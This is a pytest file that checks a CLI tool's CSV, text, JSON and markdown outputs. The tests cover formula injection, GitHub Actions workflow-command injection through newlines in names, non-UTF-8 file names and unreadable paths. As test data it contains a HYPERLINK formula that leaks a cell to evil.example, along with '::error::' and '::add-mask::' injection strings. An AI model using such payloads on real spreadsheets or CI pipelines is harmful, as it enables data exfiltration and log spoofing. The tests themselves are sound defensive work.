"""What names can do to outputs: spreadsheets, CI logs, encodings and odd paths.

* CSV cells from users that start with = + - @ tab or CR are neutralised (OWASP), JSON is exact.
* Text output keeps one line per item: a newline in a name or a file name never starts a line
  (in GitHub Actions a line starting with `::` is a workflow command).
* File names that are not UTF-8 are escaped, never crash an output half-way.
* Paths the file system refuses (too long, not enterable) end in a located message, exit 1.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from gateway_roi.app import app
from gateway_roi.outputs.formatters import OutputFormat
from gateway_roi.shell import TextOrJson

runner = CliRunner()
DANGEROUS_FIRST = ["=", "+", "-", "@", "\t", "\r"]
ROOT = Path(__file__).resolve().parent.parent
AS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


def run(*args: str | Path) -> tuple[int, str, str]:
    result = runner.invoke(app, [str(a) for a in args], env={"NO_COLOR": "1", "COLUMNS": "100"})
    return result.exit_code, result.stdout, result.stderr


def scenario(path: Path, name: str, extra: str = "") -> Path:
    path.write_text(f"name: {json.dumps(name)}\nexpect: direct\n{extra}", encoding="utf-8")
    return path


# --- CSV formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize("first", DANGEROUS_FIRST, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_csv_cells_from_users_never_start_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, first: str
) -> None:
    """A scenario name and a file name starting with a formula character: the CSV cell gets a
    leading quote (text in Excel and LibreOffice); JSON keeps the exact text."""
    monkeypatch.chdir(tmp_path)
    payload = f'{first}HYPERLINK("https://evil.example/?"&A1,"x")'
    file_name = f"{first}cmd.yaml"
    scenario(tmp_path / file_name, payload)
    code, out, err = run("evaluate", "-f", "csv", "--", file_name)
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 5
    shown = {"\t": "\\t", "\r": "\\r"}.get(first, first)
    for row in rows:
        # A name is flattened to one line (its leading tab or CR goes), a file name shows its
        # control characters escaped: either way the quote comes first.
        assert row["scenario"] == "'" + payload.lstrip("\t\r")
        assert row["file"] == "'" + shown + file_name[1:]
        for cell in row.values():
            assert not cell.startswith(tuple(DANGEROUS_FIRST)) or cell.lstrip("-").replace(
                ".", "").isdigit(), cell  # a negative number is a number, not a formula
    args = ["evaluate", "-f", "json", "--", file_name]
    code, out, err = run(*args)
    assert code == 0, err
    doc = json.loads(out)
    assert doc["scenarios"][0]["name"] == payload
    assert doc["scenarios"][0]["source"] == file_name


def test_csv_keeps_one_row_per_line(tmp_path: Path) -> None:
    """A name or a file name with a newline: the CSV row stays one line of the file (a CI log
    that prints it shows no line of the name's own)."""
    path = scenario(tmp_path / "a\n::error::x.yaml", "Team\n::error::pwned")
    code, out, _ = run("evaluate", path, "-f", "csv")
    assert code == 0
    assert len(out.splitlines()) == 6
    assert not any(line.startswith("::") for line in out.splitlines())


def test_csv_leaves_ordinary_cells_alone(tmp_path: Path) -> None:
    """Names with a formula character further in, and numbers, are written as they are."""
    path = scenario(tmp_path / "a.yaml", "Team A = platform + data")
    code, out, _ = run("evaluate", path, "-f", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["scenario"] == "Team A = platform + data"
    assert rows[0]["file"] == str(path)
    assert float(rows[0]["total"]) >= 0


# --- one line per item ---------------------------------------------------------------------------

HOSTILE_NAMES = ["Team\n::error title=Build::pwned", "Team\r::add-mask::secret",
                 "Team\u2028::warning::x", "Team\x85::notice::x", "Team\x1b[2J::debug::x"]


def _lines(*texts: str) -> list[str]:
    return [line for text in texts for line in text.splitlines()]


def _assert_one_line_each(out: str, err: str) -> None:
    for line in _lines(out, err):
        assert not line.lstrip().startswith("::"), f"a line starts a workflow command: {line!r}"
        assert "\x1b" not in line and "\r" not in line


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=["lf", "cr", "ls", "nel", "esc"])
def test_names_with_line_breaks_stay_on_their_line(tmp_path: Path, name: str) -> None:
    """check, diff, the comparison table, panels, markdown and messages: no name starts a line."""
    a = scenario(tmp_path / "a.yaml", name)
    b = scenario(tmp_path / "b.yaml", name + " B", "organisation:\n  services: 30\n")
    runs = [
        ("evaluate", a, b, "--draws", "0"),
        ("evaluate", a, b, "--draws", "0", "--no-details"),
        ("evaluate", a, b, "--draws", "0", "-f", "markdown"),
        ("check", a, b),
        ("check", a, "--expect", "build"),
        ("diff", a, b),
        ("validate", a, b),
    ]
    for args in runs:
        code, out, err = run(*args)
        assert code in (0, 3), (args, err)
        _assert_one_line_each(out, err)
    code, out, err = run("evaluate", a, b, "--draws", "0", "--no-details")
    # The comparison table: a title line, the header, a rule, one line per scenario.
    table = out.split("Comparison", 1)[1].splitlines()
    assert sum("Team" in line for line in table) == 2


def test_file_names_with_line_breaks_stay_on_their_line(tmp_path: Path) -> None:
    """A file named with a newline and `::`: escaped in problems, checks and messages."""
    bad = tmp_path / "x\n::error::pwned.yaml"
    bad.write_text("name: X\norganisation:\n  services: -3\n", encoding="utf-8")
    good = scenario(tmp_path / "y\r::warning::z.yaml", "Fine")
    for args in (("validate", tmp_path), ("evaluate", tmp_path, "--draws", "0"),
                 ("check", tmp_path), ("evaluate", tmp_path, "-f", "markdown"),
                 ("report", good, "--draws", "0", "-o", tmp_path / "out\n::error::x.md"),
                 ("report", tmp_path, "--draws", "0", "--out-dir", tmp_path / "o\n::x")):
        code, out, err = run(*args)
        assert code in (0, 1), (args, err)
        _assert_one_line_each(out, err)
    code, _, err = run("validate", tmp_path)
    assert "x\\n::error::pwned.yaml" in err  # shown escaped, so the file can be found


# --- file names that are not UTF-8 ----------------------------------------------------------------


@pytest.fixture
def latin1_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "batch"
    folder.mkdir()
    try:
        path = Path(os.fsdecode(bytes(folder) + b"/caf\xe9.yaml"))
        scenario(path, "Latin-1 named")
    except (OSError, UnicodeError):
        pytest.skip("this file system refuses names that are not UTF-8")
    scenario(folder / "z.yaml", "After it")
    return folder


# Every format of evaluate, and of the commands that name files in text or JSON.
NAMING_RUNS = {
    **{fmt.value: ["evaluate", "-f", fmt.value] for fmt in OutputFormat},
    **{f"validate-{fmt.value}": ["validate", "-f", fmt.value] for fmt in TextOrJson},
    **{f"check-{fmt.value}": ["check", "--expect", "direct", "-f", fmt.value]
       for fmt in TextOrJson},
}


@pytest.mark.parametrize("args", NAMING_RUNS.values(), ids=NAMING_RUNS.keys())
def test_names_that_are_not_utf8_are_escaped(latin1_folder: Path, args: list[str]) -> None:
    """Every output is whole, valid UTF-8, and shows the odd byte escaped where it names files."""
    code, out, err = run(*args, latin1_folder, *(["--draws", "0"] if args[0] == "evaluate" else []))
    assert code in (0, 3), err
    assert "Traceback" not in err
    out.encode("utf-8")
    if "json" in args:
        assert "caf\\xe9.yaml" in out.replace("\\\\", "\\")  # the JSON text unescaped
        json.loads(out)
    elif args[0] == "check" or "csv" in args or args == ["evaluate", "-f", "text"]:
        assert "caf\\xe9.yaml" in out
    if args[0] == "evaluate":
        assert "Latin-1 named" in out and "After it" in out


def test_report_folder_with_a_name_that_is_not_utf8(latin1_folder: Path, tmp_path: Path) -> None:
    """--out-dir: every record is written; the source file is named escaped inside."""
    code, _, err = run("report", latin1_folder, "--draws", "0", "--out-dir", tmp_path / "r")
    assert code == 0, err
    assert sorted(p.name for p in (tmp_path / "r").iterdir()) == [
        "after-it.md", "index.md", "latin-1-named.md"]
    code, out, err = run("report", latin1_folder, "--draws", "0", "-f", "json")
    assert code == 0, err
    sources = [r["source"] for r in json.loads(out)["reports"]]
    assert str(latin1_folder / "caf\\xe9.yaml") in sources


# --- paths the file system refuses -------------------------------------------------------------


def test_a_path_component_too_long_is_named(tmp_path: Path) -> None:
    """A name longer than the file system allows: exit 1, path and reason, in every role."""
    long = "a" * 300
    ok = scenario(tmp_path / "ok.yaml", "Fine")
    for args in (("evaluate", tmp_path / f"{long}.yaml"), ("validate", tmp_path / long / "x"),
                 ("report", ok, "--draws", "0", "-o", tmp_path / f"{long}.md"),
                 ("report", ok, "--draws", "0", "--out-dir", tmp_path / long),
                 ("examples", "--copy", tmp_path / long), ("diff", ok, tmp_path / long)):
        code, _, err = run(*args)
        assert code in (1, 2), (args, err)
        assert "too long" in err and "Traceback" not in err, err
        assert long[:40] in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ok.yaml"]


def test_a_folder_that_cannot_be_entered_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder inside a batch that cannot be listed: exit 1 naming it, not a silent skip.

    The permission is simulated (root enters any folder); the real case is below.
    """
    folder = tmp_path / "batch"
    (folder / "private").mkdir(parents=True)
    scenario(folder / "a.yaml", "A")
    real = os.scandir

    def scandir(path: object = ".") -> object:
        if Path(os.fspath(path)).name == "private":  # type: ignore[arg-type]
            raise PermissionError(13, "Permission denied", os.fspath(path))  # type: ignore[arg-type]
        return real(path)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "scandir", scandir)
    code, _, err = run("validate", folder)
    assert code == 1, err
    assert f"{folder / 'private'}: Permission denied" in err


@pytest.mark.skipif(AS_ROOT, reason="root enters any folder whatever its mode")
def test_a_real_folder_without_permission_is_named(tmp_path: Path) -> None:
    """chmod 000 on a folder in a batch, and on the folder given: exit 1, path and reason."""
    folder = tmp_path / "batch"
    locked = folder / "private"
    locked.mkdir(parents=True)
    scenario(folder / "a.yaml", "A")
    scenario(locked / "b.yaml", "B")
    locked.chmod(0)
    try:
        for target in (folder, locked, locked / "b.yaml"):
            code, _, err = run("validate", target)
            assert code == 1 and "Permission denied" in err and "Traceback" not in err, err
    finally:
        locked.chmod(0o755)
